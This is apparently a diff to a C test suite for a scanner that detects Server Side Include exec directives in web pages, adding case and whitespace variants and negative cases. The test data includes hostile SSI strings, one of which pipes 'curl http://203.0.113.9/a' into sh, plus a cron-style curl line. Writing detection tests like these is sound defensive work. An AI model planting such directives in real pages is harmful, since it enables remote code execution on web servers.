@@ -280,6 +280,12 @@ static void page(void **state)
 		{ "<!--#exec\n\tcmd='curl -s http://203.0.113.9/a | sh'-->", "config.page.fetch", 1 },
 		{ "<p>\n\n<!--#exec cmd=\"perl /home/u/www/img/s.pl\"-->", "config.page.command", 3 },
 		{ "<!--#exec cmd=date --><!--#exec CMD = \"./send\" -->", "config.page.command", 1 },
+		{ "<!--#EXEC CMD=\"./send\" -->", "config.page.command", 1 },
+		{ "<p>\n<!--# \n exec cmd=\"./send\" -->", "config.page.command", 2 },
+		{ "<!--#exec cgi=\"/a\" cmd=\"date\" cmd=\"./send\" -->", "config.page.command", 1 },
+		{ "<!--#echo var=\"x\" --><!--#\tExec cmd=./send -->", "config.page.command", 1 },
+		{ "<!--#execute cmd=\"./send\" --><!--exec cmd=\"./send\" -->", NULL, 0 },
+		{ "<!--#exec cmd ./send --><!--#exec =./send -->", NULL, 0 },
 		{ "<!--#exec cgi=\"/cgi-bin/counter.pl\" -->", NULL, 0 },
 		{ "<!--#exec cmd=\"date\" --> <!--#exec cmd=\"/usr/bin/uptime\" -->", NULL, 0 },
 		{ "<!--#exec cmd=\"./send\"", "config.page.command", 1 },
@@ -316,8 +322,11 @@ static void limits(void **state)
 					      "a",
 					      "\\\n",
 					      "<\n",
-					      "<!--#exec",
+					      "<!--#exec ",
 					      "<!--#exec cmd=a>",
+					      "<!--# ",
+					      "<!--#exec cmd=\"a\" a=b \n",
+					      "--><!--# exec cmd=a",
 					      "* * * * * curl -o a -o b a|(`a|(`a|(`a;cd /tmp\n" };
 	char *text = malloc(SIZE);
 
